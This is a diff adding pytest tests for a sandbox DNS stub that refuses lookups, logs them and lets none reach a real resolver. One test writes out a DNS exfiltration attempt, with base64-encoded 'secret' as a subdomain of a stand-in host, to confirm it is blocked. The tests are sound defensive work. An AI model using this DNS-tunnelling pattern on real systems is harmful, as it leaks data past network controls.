@@ -1,0 +1,41 @@
+"""The sandbox's DNS stub: local resolution fails fast with REFUSED, every query is
+recorded, and no query reaches a real DNS server (DNS cannot carry data out)."""
+
+from __future__ import annotations
+
+import pytest
+
+pytestmark = pytest.mark.kernel
+
+
+def test_a_local_lookup_fails_fast_and_is_recorded_and_nothing_leaves(gatewrap, net):
+    net.clear_logs()
+    r = gatewrap(python="""
+        import socket, time
+        t = time.monotonic()
+        try:
+            socket.getaddrinfo("c2VjcmV0.exfil.allowed.test", 443)
+            print("resolved")
+        except socket.gaierror as e:
+            print("gaierror", time.monotonic() - t < 2)
+    """, allow=["*.allowed.test"])
+    assert r.stdout == "gaierror True\n", r.stderr
+    recs = r.records(event="dns")
+    assert recs and all(x["decision"] == "denied" and x["dst_host"] == "c2VjcmV0.exfil.allowed.test" for x in recs)
+    assert "refused a DNS query for c2VjcmV0.exfil.allowed.test" in r.stderr
+    assert r.stderr.count("refused a DNS query") == 1  # repeats (A/AAAA, two servers) are folded
+    assert net.dns_queries() == []
+
+
+@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
+def test_the_stub_answers_refused_over_udp_and_tcp(gatewrap, transport):
+    r = gatewrap(["dig", transport, "+tries=1", "+time=2", "@127.0.0.1", "example.com", "A"])
+    assert "status: REFUSED" in r.stdout, r.stdout + r.stderr
+    (rec,) = r.records(event="dns")
+    assert rec["dst_host"] == "example.com" and rec["proto"] == "dns"
+
+
+def test_proxied_requests_still_resolve_through_the_gate(gatewrap):
+    r = gatewrap(["curl", "-sS", "--max-time", "10", "http://allowed.test/"], allow=["allowed.test"])
+    assert r.stdout == "hello from allowed.test over http\n", r.stderr
+    assert r.records(event="dns") == []
